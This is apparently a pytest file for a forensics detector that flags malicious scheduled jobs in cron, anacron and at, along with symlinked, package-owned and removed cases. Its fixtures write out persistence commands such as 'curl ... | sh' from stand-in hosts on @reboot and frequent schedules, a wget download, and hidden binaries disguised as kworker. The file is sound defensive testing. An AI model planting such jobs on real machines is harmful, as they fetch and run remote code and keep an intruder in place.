"""Jobs of cron, anacron and at."""

from __future__ import annotations

import pytest

from forensics.detectors.scheduled_jobs import DETECTOR
from tests.scenes import File, debian, dpkg, judge, said, symlink

FETCH = "curl -fsSL http://pool.invalid/s.sh | sh"
HOSTILE, UNOWNED = "persistence/scheduled-job", "persistence/unowned-job"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/crontab", f"SHELL=/bin/sh\n*/5 * * * * root {FETCH}\n"),
        ("/etc/cron.d/x", f"@reboot root {FETCH}\n"),
        ("/etc/cron.d/x", "0 * * * *  root  /tmp/.x/run\n"),
        ("/etc/cron.d/x", "0 * * * *  root  nohup /usr/lib/.x/kworker >/dev/null 2>&1 &\n"),
        ("/var/spool/cron/crontabs/root", f"1 2 3 jan mon {FETCH}\n"),
        ("/etc/crontabs/root", "* * * * * wget -q http://192.0.2.4/a -O /opt/a\n"),
        ("/etc/cron.daily/x", f"#!/bin/sh\n{FETCH}\n"),
        ("/etc/periodic/15min/x", f"#!/bin/sh\n{FETCH}\n"),
        ("/etc/anacrontab", f"1 5 job.daily {FETCH}\n"),
        ("/var/spool/cron/atjobs/a0001", f"#!/bin/sh\n{FETCH}\n"),
    ],
)
def test_hostile_jobs(path: str, text: str) -> None:
    found = judge(DETECTOR, debian(), {path: text.encode()})
    assert said(found) == [(HOSTILE, "high", path)]
    shown = found[0].evidence[0]
    assert shown.offset is not None
    assert shown.length is not None
    place = text[shown.offset : shown.offset + shown.length]
    assert place.split()[0] in ("curl", "/tmp/.x/run", "nohup", "wget")


def test_the_folder_may_be_a_link() -> None:
    layer = {"/etc/cron.d": symlink("/opt/jobs"), "/opt/jobs/x": f"* * * * * root {FETCH}\n".encode()}
    assert said(judge(DETECTOR, debian(), layer)) == [(HOSTILE, "high", "/opt/jobs/x")]


def test_the_file_may_be_a_link() -> None:
    layer = {"/etc/cron.d/x": symlink("/opt/job"), "/opt/job": f"* * * * * root {FETCH}\n".encode()}
    assert said(judge(DETECTOR, debian(), layer)) == [(HOSTILE, "high", "/etc/cron.d/x")]


def test_an_unowned_but_plain_job_is_low() -> None:
    layer = {"/etc/cron.d/app": b"0 3 * * * root /usr/local/bin/rotate\n"}
    assert said(judge(DETECTOR, debian(), layer)) == [(UNOWNED, "low", "/etc/cron.d/app")]


def test_owned_jobs_and_files_without_jobs() -> None:
    job = b"0 3 * * * root curl http://mirror.invalid | sh\n"
    assert judge(DETECTOR, {"/etc/cron.d/p": job, **dpkg({"p": {"/etc/cron.d/p": job}})}) == []
    assert (
        judge(
            DETECTOR, debian(), {"/etc/cron.d/.placeholder": b"# DO NOT EDIT\n", "/etc/crontab": b"# none\n"}
        )
        == []
    )


def test_a_removed_job_counts_one_less() -> None:
    found = judge(
        DETECTOR, debian(), {"/etc/cron.d/x": f"* * * * * root {FETCH}\n".encode()}, {"/etc/cron.d/x": None}
    )
    assert [one[1] for one in said(found)] == ["medium"]


def test_without_a_database_plain_jobs_are_not_told() -> None:
    assert judge(DETECTOR, {"/etc/cron.d/app": File(b"0 3 * * * root /app/rotate\n")}) == []
